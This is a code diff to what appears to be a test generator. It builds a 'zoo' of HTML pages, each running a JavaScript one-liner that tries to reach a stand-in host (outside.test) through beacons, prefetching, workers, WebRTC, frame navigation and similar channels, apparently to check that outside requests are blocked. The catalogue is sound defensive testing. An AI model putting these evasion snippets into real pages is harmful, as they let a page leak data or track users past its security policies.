@@ -67,6 +67,70 @@ _HTML = {
     "tabbed": '<img src="ht&#9;tp://tabbed.outside.test/x">', "entity": '<img src="&#104;ttp://entity.outside.test/x">',
 }  # fmt: skip
 
+# What scripts do, in a second shape or behind the back of a page's first script.
+_SCRIPTS = {
+    "detachedclick": "a=document.createElement('a');a.href='{o}';a.click()",
+    "detachedblank": "a=document.createElement('a');a.href='{o}';a.target='_blank';a.click()",
+    "dispatched": "a=document.createElement('a');a.href='{o}';a.target='_blank';a.dispatchEvent(new MouseEvent('click'))",
+    "dispatchedself": "a=document.createElement('a');a.href='{o}';a.dispatchEvent(new MouseEvent('click',{{ctrlKey:true}}))",
+    "dispatchedarea": "a=document.createElement('area');a.href='{o}';a.target='x';a.dispatchEvent(new MouseEvent('click'))",
+    "dispatchedsvg": "s='http://www.w3.org/2000/svg';a=document.createElementNS(s,'a');a.setAttribute('href','{o}');"
+                     "a.setAttribute('target','_blank');document.body.append(a);a.dispatchEvent(new MouseEvent('click'))",
+    "shadow": "d=document.createElement('div');document.body.append(d);r=d.attachShadow({{mode:'closed'}});"
+              "r.innerHTML='<a target=_blank href={o}>x</a>';r.firstChild.dispatchEvent(new MouseEvent('click'))",
+    "oldevent": "a=document.createElement('a');a.href='{o}';a.target='y';e=document.createEvent('MouseEvents');"
+                "e.initMouseEvent('click',true,true);a.dispatchEvent(e)",
+    "requestsubmit": "f=document.createElement('form');f.action='{o}';document.body.append(f);f.requestSubmit();f.submit()",
+    "detachedform": "f=document.createElement('form');f.action='{o}';f.target='_blank';f.requestSubmit();HTMLFormElement.prototype.submit.call(f)",
+    "documentopen": "document.open('{o}','_blank','width=9')",
+    "opennamed": "window.open('','n');window.open('{o}','n')",
+    "openthen": "w=window.open('about:blank');w.location='{o}'",
+    "navigation": "navigation.navigate('{o}')",
+    "srcdocnav": "f=document.createElement('iframe');f.srcdoc='<script>top.location.href=\"{o}\"<\\/script>';document.body.append(f)",
+    "framenav": "f=document.createElement('iframe');document.body.append(f);f.contentWindow.location='{o}';f.src='{o}2'",
+    "frametop": "f=document.createElement('iframe');document.body.append(f);f.contentWindow.eval('top.location=\"{o}\"')",
+    "metawritten": "document.write('<base href=\"{o}/\"><img src=x>')",
+    "metainserted": "m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url={o}';document.head.append(m)",
+    "baseinserted": "b=document.createElement('base');b.href='{o}/';document.head.prepend(b);new Image().src='x'",
+    "unload": "addEventListener('pagehide',()=>{{navigator.sendBeacon('{o}');fetch('{o}f',{{keepalive:true}})}});"
+              "addEventListener('unload',()=>{{navigator.sendBeacon('{o}u')}})",
+    "prefetched": "for(r of ['prefetch','prerender','preload','modulepreload','stylesheet','icon','manifest']){{"
+                  "l=document.createElement('link');l.rel=r;l.as='image';l.href='{o}'+r;document.head.append(l)}}",
+    "speculated": "s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({{prefetch:[{{source:'list',"
+                  "urls:['{o}'],eagerness:'immediate'}}],prerender:[{{source:'list',urls:['{o}p'],eagerness:'immediate'}}]}});document.head.append(s)",
+    "rtc": "new RTCPeerConnection({{iceServers:[{{urls:'turn:rtc.outside.test:80?transport=tcp',username:'a',credential:'b'}}]}})"
+           ".createDataChannel('')",
+    "importscripts": "new Worker(URL.createObjectURL(new Blob([\"importScripts('{o}')\"])))",
+    "dataworker": "new Worker('data:text/javascript,'+encodeURIComponent(\"fetch('{o}');importScripts('{o}i')\"))",
+    "sharedworker": "new SharedWorker('data:text/javascript,'+encodeURIComponent(\"fetch('{o}')\"));new SharedWorker('/w.js')",
+    "workersocket": "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://workersocket.outside.test/');new EventSource('{o}')\"])))",
+    "worklet": "CSS.paintWorklet&&CSS.paintWorklet.addModule('{o}');new OfflineAudioContext(1,9,9000).audioWorklet.addModule('{o}a')",
+    "transport": "new WebTransport('https://transport.outside.test/')",
+    "cssom": "s=document.createElement('style');document.head.append(s);s.sheet.insertRule('body{{background:url({o})}}');"
+             "document.body.style.background='url({o}b)';c=new CSSStyleSheet();c.replaceSync('html{{background:url({o}c)}}');document.adoptedStyleSheets=[c]",
+    "fontface": "f=new FontFace('f','url({o})');document.fonts.add(f);f.load()",
+    "pinged": "a=document.createElement('a');a.href='#x';a.ping='{o}';document.body.append(a);a.click()",
+    "innerhtml": "document.body.innerHTML='<img src={o}><svg><image href={o}s /></svg><video src={o}v></video><object data={o}o></object>"
+                 "<embed src={o}e><iframe src={o}f></iframe><input type=image src={o}i>'",
+    "imported": "import('{o}')",
+    "xslt": "p=new XSLTProcessor();p.importStylesheet(new DOMParser().parseFromString('<x:stylesheet version=\"1.0\" xmlns:x=\""
+            "http://www.w3.org/1999/XSL/Transform\"><x:import href=\"{o}\"/></x:stylesheet>','text/xml'))",
+    "payment": "new PaymentRequest([{{supportedMethods:'https://payment.outside.test/pay'}}],{{total:{{label:'x',amount:{{currency:'EUR',value:'1'}}}}}})"
+               ".canMakePayment()",
+    "federated": "navigator.credentials.get({{identity:{{providers:[{{configURL:'https://federated.outside.test/f.json',clientId:'1'}}]}}}})",
+    "session": "navigator.mediaSession.metadata=new MediaMetadata({{title:'x',artwork:[{{src:'{o}'}}]}})",
+    "notification": "new Notification('x',{{icon:'{o}'}})",
+}  # fmt: skip
+# What no policy and no script of the page can prevent in today's browsers (SECURITY.md); the copy without scripts has none of it.
+UNSTOPPABLE = {
+    "preconnected": "l=document.createElement('link');l.rel='preconnect';l.href='https://preconnected.outside.test';document.head.append(l)",
+    "freshopen": "f=document.createElement('iframe');document.body.append(f);f.contentWindow.open('{o}')",
+    "freshclick": "f=document.createElement('iframe');document.body.append(f);a=document.createElement('a');a.href='{o}';a.target='_blank';"
+                  "f.contentWindow.EventTarget.prototype.dispatchEvent.call(a,new MouseEvent('click'))",
+    "framelink": "f=document.createElement('iframe');document.body.append(f);a=f.contentDocument.createElement('a');a.href='{o}';"
+                 "a.target='_blank';a.click()",
+}  # fmt: skip
+
 _SVG = {
     "svgscript": "<script>fetch('{o}');location='{o}l'</script>", "svgprefix": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">new Image().src="{o}"</h:script>',
     "svgonload": '<g onload="location=\'{o}\'"/>', "svgimage": '<image href="{o}" width="9" height="9"/>', "svgxlink": '<image xlink:href="{o}" width="9" height="9"/>',
@@ -129,6 +193,9 @@ def zoo() -> list[tuple[str, str, bytes]]:
     found: list[tuple[str, str, bytes]] = []
     for name, markup in _HTML.items():
         found.append((f"{SITE}/html/{name}.html", "text/html", _page(name, markup.format(o=_out(name)))))
+    for name, script in (_SCRIPTS | UNSTOPPABLE).items():
+        markup = f"<script>try{{{script.format(o=_out(name))}}}catch(e){{}}</script>"
+        found.append((f"{SITE}/script/{name}.html", "text/html", _page(name, markup)))
     others = [(f"/svg/{name}.svg", "image/svg+xml", _svg(name, content).encode()) for name, content in _SVG.items()]
     endings = {"rss": "rss+xml", "atom": "atom+xml", "mml": "mathml+xml", "xsl": "xml", "xhtml": "xhtml+xml"}
     for name, content in _XML.items():
